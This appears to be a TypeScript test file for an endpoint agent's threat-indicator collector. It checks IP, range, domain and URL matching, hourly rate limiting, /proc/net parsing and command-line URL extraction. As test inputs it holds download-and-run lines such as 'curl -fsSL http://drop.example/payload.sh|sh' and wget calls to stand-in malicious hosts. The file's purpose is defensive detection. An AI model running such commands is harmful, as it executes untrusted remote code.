import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { IocMatcher } from '@harrier/schema';
import { HitLimiter } from '../intel/hit-limiter.ts';
import { defaultPolicy } from '../policy.ts';
import { FixtureTree } from '../test-support/fixture-tree.ts';
import { makeEvent } from './collector.ts';
import { ConnectionIocCollector, matchObservation, urlsIn } from './connection-ioc-collector.ts';
import { UserResolver } from './user-resolver.ts';

const HOUR = 3600_000;
const spec = (id: string, type: 'ip' | 'cidr' | 'domain' | 'url', value: string, severity = 'high') => ({
  id,
  type,
  value,
  severity,
  source: null,
});
const matcher = new IocMatcher([
  spec('ip1', 'ip', '203.0.113.7', 'critical'),
  spec('net1', 'cidr', '198.51.100.0/24', 'medium'),
  spec('ip6', 'ip', '2001:db8::bad'),
  spec('net6', 'cidr', '2001:db8:f00::/48'),
  spec('dom', 'domain', 'evil.example'),
  spec('url', 'url', 'http://drop.example/payload.sh'),
]);
const ids = (o: Parameters<typeof matchObservation>[1]) =>
  matchObservation(matcher, o).map((h) => h.indicator.id);

describe('agent indicator matching', () => {
  it('matches addresses, ranges (v4 and v6) and IPv4-mapped addresses', () => {
    assert.deepEqual(ids({ ip: '203.0.113.7' }), ['ip1']);
    assert.deepEqual(ids({ ip: '::ffff:203.0.113.7' }), ['ip1']);
    assert.deepEqual(ids({ ip: '203.0.113.8' }), []);
    assert.deepEqual(ids({ ip: '198.51.100.254' }), ['net1']);
    assert.deepEqual(ids({ ip: '198.51.101.1' }), []);
    assert.deepEqual(ids({ ip: '2001:DB8::BAD' }), ['ip6']);
    assert.deepEqual(ids({ ip: '2001:db8:f00:1::5' }), ['net6']);
    assert.deepEqual(ids({ ip: '2001:db8:f01::5' }), []);
  });

  it('matches a domain and its subdomains, and URLs (with their host)', () => {
    assert.deepEqual(ids({ domain: 'evil.example' }), ['dom']);
    assert.deepEqual(ids({ domain: 'cdn.a.Evil.Example.' }), ['dom']);
    assert.deepEqual(ids({ domain: 'notevil.example' }), []);
    assert.deepEqual(ids({ url: 'http://drop.example/payload.sh' }), ['url']);
    assert.deepEqual(ids({ url: 'https://x.evil.example/a' }), ['dom']);
    assert.deepEqual(ids({ url: 'http://drop.example/other' }), []);
  });

  it('limits reports to one per key per hour, in bounded memory, and survives a restart', () => {
    const l = new HitLimiter(HOUR, 3);
    const t0 = 1_000_000;
    assert.equal(l.allow('a', t0), true);
    assert.equal(l.allow('a', t0 + HOUR - 1), false);
    assert.equal(l.allow('a', t0 + HOUR), true);
    for (const k of ['b', 'c', 'd', 'e']) assert.equal(l.allow(k, t0 + HOUR + 1), true);
    assert.equal(l.size, 3, 'the longest-quiet keys go beyond the bound');
    const restored = new HitLimiter(HOUR, 3);
    restored.importState(JSON.parse(JSON.stringify(l.exportState())));
    assert.equal(restored.allow('e', t0 + HOUR + 2), false);
    assert.equal(restored.allow('a', t0 + HOUR + 2), true, 'evicted: may report again, never lost');
    restored.importState('garbage');
    assert.equal(restored.size, 0);
  });
});

const HEADER =
  '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
const row = (sl: number, local: string, remote: string, st: string, uid: number, inode: number) =>
  `   ${sl}: ${local} ${remote} ${st} 00000000:00000000 00:00000000 00000000  ${uid}        0 ${inode} 1 0000000000000000 100 0 0 10 0\n`;
/** Kernel hex of an IPv4 address (one little-endian word). */
const hex4 = (ip: string) =>
  ip
    .split('.')
    .map((o) => Number(o).toString(16).padStart(2, '0'))
    .reverse()
    .join('')
    .toUpperCase();

describe('connections to indicators from /proc/net', () => {
  let t: FixtureTree;
  before(async () => {
    t = await FixtureTree.create();
    await t.write('etc/passwd', 'root:x:0:0::/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n');
    await t.write('usr/bin/curl', 'curl');
    await t.addProcess({
      pid: 42,
      ppid: 1,
      comm: 'curl',
      exe: '/usr/bin/curl',
      argv: ['curl', 'http://203.0.113.7/'],
      uid: 1000,
      startTicks: 1,
    });
    await t.link('proc/42/fd/5', 'socket:[7777]');
    await t.write(
      'proc/net/tcp',
      HEADER +
        // A listener on the indicator's address family, never a hit.
        row(0, '00000000:0016', '00000000:0000', '0A', 0, 1111) +
        row(1, `${hex4('10.0.0.5')}:C350`, `${hex4('203.0.113.7')}:0050`, '01', 1000, 7777) +
        row(2, `${hex4('10.0.0.5')}:C351`, `${hex4('192.0.2.1')}:01BB`, '01', 1000, 8888),
    );
    await t.write('proc/net/tcp6', HEADER);
    await t.write('proc/net/udp', HEADER);
    await t.write('proc/net/udp6', HEADER);
  });
  after(() => t.cleanup());

  it('emits one ioc_hit per indicator and remote address per hour, with the process that owns it', async () => {
    const c = new ConnectionIocCollector(t.root, new UserResolver(t.root), () => matcher);
    const now = new Date('2026-11-23T10:00:00Z');
    const events = await c.collect({ now, policy: defaultPolicy() });
    assert.equal(events.length, 1);
    const e = events[0]!;
    assert.equal(e.type, 'ioc_hit');
    assert.equal(e.severity, 'critical', "the indicator's severity");
    assert.deepEqual(e.logsource, { product: 'linux', category: 'threat-intel' });
    assert.equal(e.fields['DestinationIp'], '203.0.113.7');
    assert.equal(e.fields['DestinationPort'], 80);
    assert.equal(e.fields['SourcePort'], 50000);
    assert.equal(e.fields['Image'], '/usr/bin/curl');
    assert.equal(e.fields['ProcessId'], 42);
    assert.equal(e.fields['User'], 'bob');
    assert.equal(e.fields['IocId'], 'ip1');
    assert.equal(e.fields['IocValue'], '203.0.113.7');

    assert.deepEqual(await c.collect({ now: new Date(now.getTime() + 60_000), policy: defaultPolicy() }), []);
    const restarted = new ConnectionIocCollector(t.root, new UserResolver(t.root), () => matcher);
    restarted.importState(JSON.parse(JSON.stringify(c.exportState())));
    assert.deepEqual(
      await restarted.collect({ now: new Date(now.getTime() + 120_000), policy: defaultPolicy() }),
      [],
    );
    const later = await restarted.collect({ now: new Date(now.getTime() + HOUR), policy: defaultPolicy() });
    assert.equal(later.length, 1, 'reported again an hour later');
  });

  it('does not read /proc while there are no indicators', async () => {
    const c = new ConnectionIocCollector(
      '/nonexistent-root',
      new UserResolver('/'),
      () => new IocMatcher([]),
    );
    assert.deepEqual(await c.collect({ now: new Date(), policy: defaultPolicy() }), []);
  });

  it('matches the URLs and hosts in the command lines of new processes', () => {
    assert.deepEqual(
      urlsIn("sh -c 'curl -fsSL http://drop.example/payload.sh|sh' ; wget https://[2001:db8::bad]/x"),
      ['http://drop.example/payload.sh', 'https://[2001:db8::bad]/x'],
    );
    const c = new ConnectionIocCollector(t.root, new UserResolver(t.root), () => matcher);
    const now = new Date('2026-11-23T10:00:00Z');
    const proc = (cmd: string) =>
      makeEvent({
        type: 'process_start',
        ts: now,
        logsource: { product: 'linux', category: 'process_creation' },
        fields: { Image: '/usr/bin/curl', ProcessId: 99, CommandLine: cmd, User: 'bob' },
      });
    const hits = c.fromProcessEvents(
      [
        proc('curl -o /tmp/p http://drop.example/payload.sh'),
        proc('curl https://cdn.evil.example/a'),
        proc('wget http://[2001:db8::bad]/x'),
        proc('curl https://harmless.example/'),
      ],
      now,
    );
    assert.deepEqual(
      hits.map((e) => [
        e.fields['IocId'],
        e.fields['Url'],
        e.fields['DestinationHostname'] ?? e.fields['DestinationIp'],
      ]),
      [
        ['url', 'http://drop.example/payload.sh', 'drop.example'],
        ['dom', 'https://cdn.evil.example/a', 'cdn.evil.example'],
        ['ip6', 'http://[2001:db8::bad]/x', '2001:db8::bad'],
      ],
    );
    assert.equal(hits[0]!.fields['ProcessId'], 99);
    assert.equal(hits[0]!.fields['Image'], '/usr/bin/curl');
    assert.deepEqual(c.fromProcessEvents([proc('curl https://cdn.evil.example/a')], now), [], 'once an hour');
  });
});
